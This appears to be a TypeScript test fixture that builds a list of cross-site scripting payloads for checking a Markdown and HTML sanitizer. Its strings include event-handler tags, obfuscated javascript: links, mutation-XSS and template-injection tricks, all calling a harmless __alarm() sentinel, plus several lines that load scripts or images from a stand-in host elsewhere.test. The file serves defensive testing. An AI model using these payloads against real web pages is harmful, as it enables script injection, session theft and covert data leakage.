/** What a payload calls when it runs: the tests look whether it was called. */
export const ALARM = "__alarm()";

const handlers = [
  "onerror",
  "onload",
  "onfocus",
  "onmouseover",
  "ontoggle",
  "onanimationstart",
  "onpointerenter",
];

const elements = [
  ...["img src=x", "svg", "body", "iframe srcdoc=x", "video src=x", "audio src=x", "details open", "marquee"],
  ...[
    "input autofocus",
    "select autofocus",
    "textarea autofocus",
    "object data=x",
    "embed src=x",
    "a href=# autofocus",
  ],
];

const schemes = [
  ...["javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "javascript&colon;"],
  ...[
    "&#106;avascript:",
    "javascript%3A",
    "\u0001javascript:",
    "vbscript:",
    "data:text/html,",
    "blob:javascript:",
  ],
];

/** How an address gets into Markdown and HTML. */
const carriers = [
  (address: string) => `[go](${address})`,
  (address: string) => `[go](<${address}>)`,
  (address: string) => `![pic](${address})`,
  (address: string) => `<a href="${address}">go</a>`,
  (address: string) => `<${address}>`,
  (address: string) => `[go][1]\n\n[1]: ${address}`,
];

const scripts = [
  "<script>CALL</script>",
  "<ScRiPt>CALL</sCrIpT>",
  "<script src=//elsewhere.test/a.js></script>",
  "<script type=module>CALL</script>",
  "<scr<script>ipt>CALL</scr</script>ipt>",
  "</title><script>CALL</script>",
  "</textarea><script>CALL</script>",
  "</script><script>CALL</script>",
  "--><script>CALL</script>",
  "]]><script>CALL</script>",
  "\u2028<script>CALL</script>",
  "\u202e<script>CALL</script>",
  "\uff1cscript\uff1eCALL\uff1c/script\uff1e",
  "%3Cscript%3ECALL%3C/script%3E",
  "&lt;script&gt;CALL&lt;/script&gt;",
  "\\u003cscript\\u003eCALL\\u003c/script\\u003e",
  "+ADw-script+AD4-CALL+ADw-/script+AD4-",
  "<svg><script>CALL</script></svg>",
  "<svg><script href='data:text/javascript,CALL'/></svg>",
  "<svg><a xlink:href='javascript:CALL'><text y=9>go</text></a></svg>",
  "<svg><animate onbegin=CALL attributeName=x dur=1s></svg>",
  "<svg><set attributeName=href to=javascript:CALL>",
  "<svg><use href='data:image/svg+xml,<svg onload=CALL>'/></svg>",
  "<svg><foreignObject><iframe srcdoc='<script>parent.CALL</script>'></foreignObject></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=CALL>'>",
  "<noscript><p title='</noscript><img src=x onerror=CALL>'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=CALL>",
  "<select><style></select><img src=x onerror=CALL></style>",
  "<svg></p><style><a id='</style><img src=x onerror=CALL>'>",
  "<template><img src=x onerror=CALL></template>",
  "<a id=a><a id=a name=b href=javascript:CALL>",
  "<base href=//elsewhere.test/><script src=a.js></script>",
  "<meta http-equiv=refresh content='0;url=javascript:CALL'>",
  "<link rel=stylesheet href=//elsewhere.test/a.css>",
  "<link rel=preload as=script href=//elsewhere.test/a.js>",
  "<style>@import '//elsewhere.test/a.css'; *{background:url(//elsewhere.test/b.png)}</style>",
  "<div style='background:url(javascript:CALL)'>",
  "<div style='background:url(//elsewhere.test/c.png)'>",
  "<img src=//elsewhere.test/d.png>",
  "<img srcset='//elsewhere.test/e.png 1x'>",
  "![pic](http://elsewhere.test/f.png)",
  "![pic](//elsewhere.test/g.png 'title')",
  "[![pic](http://elsewhere.test/h.png)](javascript:CALL)",
  "<object data='data:text/html,<script>parent.CALL</script>'></object>",
  "<iframe src='javascript:parent.CALL'></iframe>",
  "<iframe srcdoc='&lt;script&gt;parent.CALL&lt;/script&gt;'></iframe>",
  "<form action=javascript:CALL><button autofocus>go</button></form>",
  "<button formaction=javascript:CALL form=f>go</button>",
  "{{constructor.constructor('CALL')()}}",
  "${CALL}",
  "#{CALL}",
  "<%= CALL %>",
  "'-CALL-'",
  '";CALL;//',
  "`;CALL;//",
  "\\';CALL;//",
  "{__html:'<img src=x onerror=CALL>'}",
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=CALL>"}}',
  "```html\n<script>CALL</script>\n```",
  "`<img src=x onerror=CALL>`",
  "<!-- <img src=x onerror=CALL> -->",
  "<![CDATA[<img src=x onerror=CALL>]]>",
  "<?xml version='1.0'?><img src=x onerror=CALL>",
  "<x/onclick=CALL>go",
  "<img/src='x'/onerror=CALL>",
  "<img src=x:x onerror\n=\nCALL>",
  "<img src=x onerror=CALL//",
  "<IMG SRC=x ONERROR=CALL>",
  '<img src="x` `<img src=x onerror=CALL>"` `>',
  "<a href='http://elsewhere.test' onclick=CALL>go</a>",
  "http://elsewhere.test/'onmouseover='CALL",
  'https://elsewhere.test/"><img src=x onerror=CALL>',
  "| a |\n|---|\n| <img src=x onerror=CALL> |",
  "- [ ] <img src=x onerror=CALL>",
  "# <img src=x onerror=CALL>",
  "> <script>CALL</script>",
  "[^1]\n\n[^1]: <img src=x onerror=CALL>",
  "<details open ontoggle=CALL><summary>go</summary></details>",
  "<div popover id=p onbeforetoggle=CALL></div><button popovertarget=p>go</button>",
];

/** Texts that would run a script, or fetch something from elsewhere, where they became markup. Each is another. */
export function payloads(): string[] {
  const tags = elements.flatMap((element, n) => {
    const [first, second] = [handlers[n % handlers.length], handlers[(n + 3) % handlers.length]];
    return [`<${element} ${first}=${ALARM}>`, `"><${element} ${second}="${ALARM}">`];
  });
  const links = schemes.flatMap((scheme) => carriers.map((carrier) => carrier(`${scheme}${ALARM}`)));
  const others = scripts.map((text) => text.replaceAll("CALL", ALARM));
  return [...new Set([...tags, ...links, ...others, ...others.map((text) => `*${text}*`)])].slice(0, 240);
}
